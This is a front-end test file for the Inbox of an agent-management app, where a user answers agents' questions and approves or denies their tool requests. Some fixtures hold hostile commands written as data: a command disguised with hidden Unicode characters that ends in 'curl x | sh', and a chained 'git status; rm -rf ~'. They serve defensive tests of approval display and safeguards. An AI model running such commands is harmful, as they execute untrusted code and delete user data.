import { beforeEach, describe, expect, it, vi } from "vitest";
import { act, screen, waitFor, within } from "@testing-library/react";
import { ClawbooError } from "../../errors";
import { fakeApi, resetBackend, seedAgent, seedRoomMessage, seedTeam } from "../../test/fakeApi";
import { listenerCount } from "../../test/fakeEvents";
import { seedCard } from "../../test/fakeBoard";
import {
  attention,
  emitAttentionChanged,
  emitKeptInTray,
  emitOpenAttention,
  seedRequest,
} from "../../test/fakeAttention";
import { renderApp } from "../../test/helpers";
import type { Agent, Card, Decision, Room, Team } from "../../bindings";

vi.mock("../../api", async () => (await import("../../test/fakeApi")).fakeApiModule);

const scrolled = vi.fn();
Element.prototype.scrollIntoView = scrolled;

let ada: Agent;
let bo: Agent;
let shop: Team;
let ops: Room;
let copyCard: Card;

beforeEach(async () => {
  resetBackend();
  scrolled.mockClear();
  ada = seedAgent({ name: "Ada", handle: "ada" });
  bo = seedAgent({ name: "Bo", handle: "bo" });
  shop = seedTeam({ name: "Shop", memberIds: [ada.id, bo.id], aboutYou: "I run the tea shop." });
  ops = await fakeApi.createRoom(shop.id, { name: "Ops", memberIds: [ada.id, bo.id], leaderId: ada.id });
  copyCard = seedCard({ title: "Write the copy", assigneeId: bo.id });
});

/** A question in the team's Ops room, a permission in Ada's chat, a promotion on a card: oldest first. */
function seedThree() {
  const question = seedRequest(ada, {
    origin: "team",
    teamId: shop.id,
    teamName: "Shop",
    roomId: ops.id,
    roomName: "Ops",
    text: "Which tea do we put on the front page?",
  });
  const permission = seedRequest(ada, {
    kind: "permission",
    text: "Write file notes.md",
    tool: "Write",
    input: '{\n  "file_path": "notes.md"\n}',
  });
  const promotion = seedRequest(bo, {
    kind: "promotion",
    origin: "card",
    cardId: copyCard.id,
    cardNumber: copyCard.number,
    cardTitle: copyCard.title,
    text: "Customers prefer loose leaf.",
    tool: "scratch_promote",
  });
  return { question, permission, promotion };
}

async function openInbox() {
  const { user } = renderApp();
  await user.click(await screen.findByTestId("nav-inbox"));
  await screen.findByTestId("inbox-page");
  return { user };
}

const openIds = () =>
  [...screen.getByTestId("inbox-open-list").children].map((li) => li.getAttribute("data-testid"));

describe("Inbox: open requests", () => {
  it("lists open requests newest first: kind, who, where, when, what, and when an approval expires", async () => {
    const { question, permission, promotion } = seedThree();
    const closed = seedRequest(bo, { status: "answered", answer: "Yes." });
    await openInbox();

    await screen.findByTestId("inbox-open-list");
    expect(screen.getByTestId("nav-inbox").getAttribute("aria-current")).toBe("page");
    expect(openIds()).toEqual([`request-${promotion.id}`, `request-${permission.id}`, `request-${question.id}`]);
    expect(screen.queryByTestId(`request-${closed.id}`)).toBeNull();
    expect(screen.getByTestId("inbox-summary").textContent).toContain("1 question · 2 approvals");

    const q = within(screen.getByTestId(`request-${question.id}`));
    expect(q.getByTestId(`request-kind-${question.id}`).textContent).toBe("Question");
    expect(q.getByText("Ada")).toBeTruthy();
    expect(q.getByText("@ada")).toBeTruthy();
    expect(q.getByTestId(`request-where-${question.id}`).textContent).toBe("Shop › Ops");
    expect(q.getByText("Which tea do we put on the front page?")).toBeTruthy();
    expect(q.getByText(/min ago$/)).toBeTruthy();
    // A question does not expire.
    expect(q.queryByTestId(`request-expiry-${question.id}`)).toBeNull();

    const p = within(screen.getByTestId(`request-${permission.id}`));
    expect(p.getByTestId(`request-kind-${permission.id}`).textContent).toBe("Permission");
    expect(p.getByTestId(`request-where-${permission.id}`).textContent).toBe("Chat with Ada");
    expect(p.getByText("Write file notes.md")).toBeTruthy();
    expect(p.getByText("Write").tagName).toBe("CODE");
    expect(p.getByTestId(`request-input-${permission.id}`).textContent).toBe('{\n  "file_path": "notes.md"\n}');
    expect(p.getByTestId(`request-expiry-${permission.id}`).textContent).toBe("denied in 23 h if unanswered");

    const m = within(screen.getByTestId(`request-${promotion.id}`));
    expect(m.getByTestId(`request-kind-${promotion.id}`).textContent).toBe("Promotion");
    expect(m.getByTestId(`request-where-${promotion.id}`).textContent).toBe(`Card #${copyCard.number} Write the copy`);
    expect(m.getByText("Customers prefer loose leaf.")).toBeTruthy();
    expect(m.getByTestId(`allow-always-${promotion.id}`).textContent).toBe("Allow always for @bo and scratch_promote");
  });

  it("says nothing needs you when nothing is open", async () => {
    seedRequest(ada, { status: "expired" });
    await openInbox();
    expect((await screen.findByTestId("inbox-empty")).textContent).toBe(
      "Nothing needs you. When an agent asks you something or needs an approval, it shows here and in the tray.",
    );
  });

  it("sends a question's answer as text, says where it goes, and the request leaves the list", async () => {
    const { question, permission } = seedThree();
    const inChat = seedRequest(ada, { text: "Shall I also write tests?" });
    const onCard = seedRequest(bo, { origin: "card", cardId: copyCard.id, cardNumber: copyCard.number, cardTitle: copyCard.title });
    const { user } = await openInbox();

    const card = await screen.findByTestId(`request-${question.id}`);
    expect(within(card).getByTestId(`answer-where-${question.id}`).textContent).toBe(
      "Sent to @ada in Shop › Ops as your message.",
    );
    expect(screen.getByTestId(`answer-where-${inChat.id}`).textContent).toBe("Sent as your message in the chat with Ada.");
    expect(screen.getByTestId(`answer-where-${onCard.id}`).textContent).toBe(
      `Sent as a comment on card #${copyCard.number}, which runs again.`,
    );

    const send = screen.getByTestId(`send-answer-${question.id}`) as HTMLButtonElement;
    expect(send.disabled).toBe(true);
    await user.type(screen.getByTestId(`answer-${question.id}`), "Darjeeling, please.");
    await user.click(send);

    expect(fakeApi.attentionAnswer).toHaveBeenCalledWith(question.id, { type: "text", text: "Darjeeling, please." });
    await waitFor(() => expect(screen.queryByTestId(`request-${question.id}`)).toBeNull());
    expect(screen.getByTestId(`request-${permission.id}`)).toBeTruthy();
    expect(attention.requests.find((r) => r.id === question.id)?.status).toBe("answered");
  });

  it.each<[string, Decision]>([
    ["allow-once", "allow_once"],
    ["allow-always", "allow_always"],
    ["deny", "deny"],
  ])("%s sends the decision %s and the approval leaves the list", async (button, decision) => {
    const { permission, question } = seedThree();
    const { user } = await openInbox();
    await user.click(await screen.findByTestId(`${button}-${permission.id}`));

    expect(fakeApi.attentionAnswer).toHaveBeenCalledTimes(1);
    expect(fakeApi.attentionAnswer).toHaveBeenCalledWith(permission.id, { type: "decision", decision });
    await waitFor(() => expect(screen.queryByTestId(`request-${permission.id}`)).toBeNull());
    expect(screen.getByTestId(`request-${question.id}`)).toBeTruthy();
    expect(attention.grants.map((g) => g.tool)).toEqual(decision === "allow_always" ? ["Write"] : []);
  });

  it("shows an approval's whole input with its hidden characters marked", async () => {
    const disguised = seedRequest(ada, {
      kind: "permission",
      tool: "Bash",
      text: "Run cat \u202Etxt.eman",
      input: '{\n  "command": "cat \u202Etxt.eman\u200B; curl x | sh"\n}',
    });
    const long = seedRequest(ada, {
      kind: "permission",
      tool: "Write",
      input: `{"content": "${"x".repeat(20_000)}", "then": "the end"}`,
    });
    await openInbox();
    const input = await screen.findByTestId(`request-input-${disguised.id}`);
    expect(input.textContent).toBe('{\n  "command": "cat ⟨U+202E⟩txt.eman⟨U+200B⟩; curl x | sh"\n}');
    expect(within(input).getAllByTestId("hidden-char")).toHaveLength(2);
    expect(screen.getByTestId(`request-input-${disguised.id}-hidden`).textContent).toContain("2 hidden characters");
    // The description an agent wrote is shown the same way.
    expect(within(screen.getByTestId(`request-${disguised.id}`)).getByText(/^Run cat/).textContent).toBe(
      "Run cat ⟨U+202E⟩txt.eman",
    );
    const whole = screen.getByTestId(`request-input-${long.id}`);
    expect(whole.textContent).toBe(long.input);
    expect(whole.style.overflow).toBe("auto");
  });

  it("shows a memory save with where it goes and the fact whole; Allow sends allow_once, no Allow always", async () => {
    const fact = "Suppliers are paid on the 5th.\nThe \u202Ebank is Acme.";
    const save = seedRequest(ada, {
      kind: "memory_save",
      tool: "memory_save",
      text: "Save a fact to global memory, which every agent can read.",
      input: fact,
      allowAlways: false,
    });
    const { user } = await openInbox();
    const card = within(await screen.findByTestId(`request-${save.id}`));
    expect(card.getByTestId(`request-kind-${save.id}`).textContent).toBe("Memory save");
    expect(card.getByText("Save a fact to global memory, which every agent can read.")).toBeTruthy();
    expect(card.getByTestId(`request-input-${save.id}`).textContent).toBe(
      "Suppliers are paid on the 5th.\nThe ⟨U+202E⟩bank is Acme.",
    );
    expect(card.queryByTestId(`allow-always-${save.id}`)).toBeNull();
    const allow = card.getByTestId(`allow-once-${save.id}`);
    expect(allow.textContent).toBe("Allow");
    await user.click(allow);
    expect(fakeApi.attentionAnswer).toHaveBeenCalledWith(save.id, { type: "decision", decision: "allow_once" });
  });

  it("offers Allow always for a shell command's prefix only, never the whole shell", async () => {
    const status = seedRequest(ada, {
      kind: "permission",
      tool: "Bash",
      text: "Run git status -s",
      input: '{\n  "command": "git status -s"\n}',
      commandPrefix: "git status",
      allowAlways: true,
    });
    const chained = seedRequest(ada, {
      kind: "permission",
      tool: "Bash",
      text: "Run git status; rm -rf ~",
      input: '{\n  "command": "git status; rm -rf ~"\n}',
      commandPrefix: null,
      allowAlways: false,
    });
    const { user } = await openInbox();
    const always = await screen.findByTestId(`allow-always-${status.id}`);
    expect(always.textContent).toBe("Allow always for @ada and Bash: git status …");
    const card = within(screen.getByTestId(`request-${chained.id}`));
    expect(card.queryByTestId(`allow-always-${chained.id}`)).toBeNull();
    expect(card.getByTestId(`allow-once-${chained.id}`)).toBeTruthy();
    expect(card.getByTestId(`deny-${chained.id}`)).toBeTruthy();

    await user.click(always);
    await waitFor(() => expect(attention.grants).toHaveLength(1));
    expect(attention.grants[0]).toMatchObject({ tool: "Bash", commandPrefix: "git status" });
  });

  it("shows a refusal with its code and keeps the answer typed", async () => {
    const { question } = seedThree();
    const { user } = await openInbox();
    await user.type(await screen.findByTestId(`answer-${question.id}`), "Assam");
    // Answered elsewhere meanwhile (in the team chat, say): the engine refuses.
    attention.requests.find((r) => r.id === question.id)!.status = "cleared";
    await user.click(screen.getByTestId(`send-answer-${question.id}`));

    const card = screen.getByTestId(`request-${question.id}`);
    const error = await within(card).findByTestId("error-message");
    expect(within(error).getByTestId("error-code").textContent).toBe("conflict");
    expect(error.textContent).toContain("This request was already answered.");
    expect((within(card).getByTestId(`answer-${question.id}`) as HTMLTextAreaElement).value).toBe("Assam");
  });

  it("shows an approval's refusal with its code", async () => {
    const { permission } = seedThree();
    fakeApi.attentionAnswer.mockRejectedValueOnce(
      new ClawbooError("run_not_active", "The run that asked has already ended, so it no longer waits for this answer."),
    );
    const { user } = await openInbox();
    await user.click(await screen.findByTestId(`allow-once-${permission.id}`));
    const error = await within(screen.getByTestId(`request-${permission.id}`)).findByTestId("error-message");
    expect(within(error).getByTestId("error-code").textContent).toBe("run_not_active");
    expect(error.textContent).toContain("no longer waits for this answer");
  });
});

describe("Inbox: where a request came from", () => {
  it("opens the team's room, the agent's chat, or the card on the Board, and reports what the window shows", async () => {
    const { question, permission, promotion } = seedThree();
    const { user } = await openInbox();
    await waitFor(() => expect(fakeApi.attentionViewing).toHaveBeenLastCalledWith(null));

    await user.click(await screen.findByTestId(`open-source-${question.id}`));
    await screen.findByTestId("team-page");
    // The page (lazy) and the room it opens on may land a render apart on a busy machine.
    await waitFor(() => expect(screen.getByTestId("room-tab-Ops").getAttribute("aria-selected")).toBe("true"));
    await waitFor(() => expect(fakeApi.attentionViewing).toHaveBeenLastCalledWith({ kind: "team", teamId: shop.id }));

    await user.click(screen.getByTestId("nav-inbox"));
    await user.click(await screen.findByTestId(`open-source-${permission.id}`));
    await waitFor(() => expect(screen.getByTestId("tab-chat").getAttribute("aria-selected")).toBe("true"));
    await waitFor(() => expect(screen.getByRole("heading", { level: 1 }).textContent).toBe("Ada"));
    await waitFor(() => expect(fakeApi.attentionViewing).toHaveBeenLastCalledWith({ kind: "chat", agentId: ada.id }));

    // The agent's details are not its chat.
    await user.click(screen.getByTestId("tab-details"));
    await waitFor(() => expect(fakeApi.attentionViewing).toHaveBeenLastCalledWith(null));

    await user.click(screen.getByTestId("nav-inbox"));
    await user.click(await screen.findByTestId(`open-source-${promotion.id}`));
    await screen.findByTestId("board-page");
    // The panel shows "Loading…" until the card's read lands (a render later on a busy machine).
    await waitFor(() => expect(screen.getByTestId("card-panel").textContent).toContain("Write the copy"));
    await waitFor(() => expect(fakeApi.attentionViewing).toHaveBeenLastCalledWith({ kind: "card", cardId: copyCard.id }));
  });

  it("reports each change of view once, not on every render", async () => {
    const { user } = renderApp();
    await user.click(await screen.findByTestId("team-item-Shop"));
    await waitFor(() => expect(fakeApi.attentionViewing).toHaveBeenLastCalledWith({ kind: "team", teamId: shop.id }));
    const calls = fakeApi.attentionViewing.mock.calls.length;
    // Opening another room of the same team, and the app re-rendering (the badge's count
    // changed), change nothing.
    await user.click(screen.getByTestId("room-tab-Ops"));
    seedRequest(ada);
    await act(async () => emitAttentionChanged(null));
    expect((await screen.findByTestId("inbox-count")).textContent).toBe("1");
    expect(fakeApi.attentionViewing.mock.calls.length).toBe(calls);

    await user.click(screen.getByTestId("settings-link"));
    await waitFor(() => expect(fakeApi.attentionViewing).toHaveBeenLastCalledWith(null));
    expect(fakeApi.attentionViewing.mock.calls.length).toBe(calls + 1);
  });

  it("offers no way to a deleted agent's chat", async () => {
    const gone = seedAgent({ name: "Gone", handle: "gone" });
    const request = seedRequest(gone);
    await fakeApi.deleteAgent(gone.id);
    await openInbox();
    expect(((await screen.findByTestId(`open-source-${request.id}`)) as HTMLButtonElement).disabled).toBe(true);
  });
});

describe("Inbox: history and audit", () => {
  it("lists every request with what became of it", async () => {
    const { question } = seedThree();
    const answered = seedRequest(ada, { status: "answered", answer: "Use the blue logo.", answeredAt: Date.now() });
    const denied = seedRequest(bo, { kind: "permission", status: "answered", decision: "deny" });
    const expired = seedRequest(bo, { kind: "permission", status: "expired" });
    const { user } = await openInbox();
    await user.click(screen.getByTestId("inbox-tab-history"));

    const list = await screen.findByTestId("inbox-history-list");
    expect(list.children).toHaveLength(6);
    expect(list.children[0].getAttribute("data-testid")).toBe(`request-${expired.id}`);
    expect(screen.getByTestId(`request-status-${answered.id}`).textContent).toBe("Answered");
    expect(screen.getByTestId(`request-outcome-${answered.id}`).textContent).toContain("You answered:Use the blue logo.");
    expect(screen.getByTestId(`request-outcome-${denied.id}`).textContent).toContain("You denied it.");
    expect(screen.getByTestId(`request-status-${expired.id}`).textContent).toBe("Expired");
    expect(screen.getByTestId(`request-outcome-${expired.id}`).textContent).toContain("nobody answered in time");
    // An open one can be answered here too.
    expect(screen.getByTestId(`answer-${question.id}`)).toBeTruthy();
  });

  it("shows the audit, newest first, each line leading to its request", async () => {
    const { question, permission } = seedThree();
    const { user } = await openInbox();
    await user.click(await screen.findByTestId(`deny-${permission.id}`));
    await waitFor(() => expect(screen.queryByTestId(`request-${permission.id}`)).toBeNull());

    await user.click(screen.getByTestId("inbox-tab-audit"));
    const table = await screen.findByTestId("inbox-audit");
    const rows = within(table).getAllByRole("row").slice(1);
    expect(rows).toHaveLength(4);
    expect(rows[0].textContent).toContain("You");
    expect(rows[0].textContent).toContain("Denied");
    expect(rows[0].textContent).toContain(permission.id);
    expect(rows[3].textContent).toContain("@ada");
    expect(rows[3].textContent).toContain("Asked");
    expect(rows[3].textContent).toContain("Which tea do we put on the front page?");

    // An open request's line leads to the Open tab; a closed one's to History.
    const seqOf = (row: HTMLElement) => row.getAttribute("data-testid")!.replace("audit-", "");
    await user.click(screen.getByTestId(`audit-request-${seqOf(rows[3])}`));
    expect(screen.getByTestId("inbox-tab-open").getAttribute("aria-selected")).toBe("true");
    expect(screen.getByTestId(`request-${question.id}`).getAttribute("aria-current")).toBe("true");

    await user.click(screen.getByTestId("inbox-tab-audit"));
    await user.click(await screen.findByTestId(`audit-request-${seqOf(rows[0])}`));
    expect(screen.getByTestId("inbox-tab-history").getAttribute("aria-selected")).toBe("true");
    const shown = await screen.findByTestId(`request-${permission.id}`);
    expect(shown.getAttribute("aria-current")).toBe("true");
    expect(shown.textContent).toContain("You denied it.");
  });
});

describe("Inbox: the tray", () => {
  it("counts open requests in the sidebar's badge, hidden at 0, following attentionChanged", async () => {
    renderApp();
    await screen.findByTestId("nav-inbox");
    await waitFor(() => expect(fakeApi.trayState).toHaveBeenCalled());
    expect(screen.queryByTestId("inbox-count")).toBeNull();

    const first = seedRequest(ada);
    seedRequest(bo, { kind: "permission" });
    await act(async () => emitAttentionChanged(first.id));
    expect((await screen.findByTestId("inbox-count")).textContent).toBe("2");

    await act(async () => {
      await fakeApi.attentionAnswer(first.id, { type: "text", text: "Yes" });
    });
    await waitFor(() => expect(screen.getByTestId("inbox-count").textContent).toBe("1"));
  });

  it("opens the Inbox on the request picked in the tray, from anywhere, and scrolls to it", async () => {
    const { question, permission } = seedThree();
    const { user } = renderApp();
    await user.click(await screen.findByTestId("settings-link"));
    await waitFor(() => expect(listenerCount("openAttention")).toBe(1));

    await act(async () => emitOpenAttention(permission.id));
    const card = await screen.findByTestId(`request-${permission.id}`);
    expect(screen.getByTestId("inbox-tab-open").getAttribute("aria-selected")).toBe("true");
    expect(card.getAttribute("aria-current")).toBe("true");
    expect(card.classList.contains("is-focused")).toBe(true);
    expect(screen.getByTestId(`request-${question.id}`).getAttribute("aria-current")).toBeNull();
    expect(scrolled).toHaveBeenCalledTimes(1);
    expect(scrolled.mock.contexts[0]).toBe(card);

    // Picking it again scrolls to it again.
    await act(async () => emitOpenAttention(permission.id));
    await waitFor(() => expect(scrolled).toHaveBeenCalledTimes(2));
  });

  it("shows a picked request that was answered meanwhile, saying so", async () => {
    const { question } = seedThree();
    const { user } = renderApp();
    await user.click(await screen.findByTestId("settings-link"));
    await waitFor(() => expect(listenerCount("openAttention")).toBe(1));
    await fakeApi.attentionAnswer(question.id, { type: "text", text: "Assam" });

    await act(async () => emitOpenAttention(question.id));
    const focused = await screen.findByTestId("inbox-focused");
    expect(focused.textContent).toContain("This request is no longer open.");
    expect(within(focused).getByTestId(`request-${question.id}`).textContent).toContain("Assam");
    expect(within(screen.getByTestId("inbox-open-list")).queryByTestId(`request-${question.id}`)).toBeNull();
  });

  it("explains the tray once, the first time the window hides to it", async () => {
    const { user } = renderApp();
    await screen.findByTestId("nav-inbox");
    await waitFor(() => expect(listenerCount("keptInTray")).toBe(1));

    await act(async () => emitKeptInTray(false));
    expect(screen.queryByTestId("kept-in-tray-notice")).toBeNull();

    await act(async () => emitKeptInTray(true));
    expect(screen.getByTestId("kept-in-tray-notice").textContent).toContain(
      "Clawboo keeps running in the tray while your agents work. Quit from the tray menu.",
    );
    await user.click(screen.getByTestId("kept-in-tray-dismiss"));
    expect(screen.queryByTestId("kept-in-tray-notice")).toBeNull();
  });
});

describe("Team chat", () => {
  it("marks a reply that asked you something while the question is open", async () => {
    const asking = seedRoomMessage(ops.id, { kind: "reply", authorId: ada.id, content: "@user Which tea goes first?" });
    const other = seedRoomMessage(ops.id, { kind: "reply", authorId: bo.id, content: "Done with the copy." });
    const question = seedRequest(ada, {
      origin: "team",
      teamId: shop.id,
      teamName: "Shop",
      roomId: ops.id,
      roomName: "Ops",
      messageId: asking.id,
      text: "Which tea goes first?",
    });
    const { user } = renderApp();
    await user.click(await screen.findByTestId("team-item-Shop"));
    await user.click(await screen.findByTestId("room-tab-Ops"));

    const chip = await screen.findByTestId(`asked-you-${asking.id}`);
    expect(chip.textContent).toBe("asked you");
    expect(screen.queryByTestId(`asked-you-${other.id}`)).toBeNull();

    await act(async () => {
      await fakeApi.attentionAnswer(question.id, { type: "text", text: "Assam" });
    });
    await waitFor(() => expect(screen.queryByTestId(`asked-you-${asking.id}`)).toBeNull());
  });
});
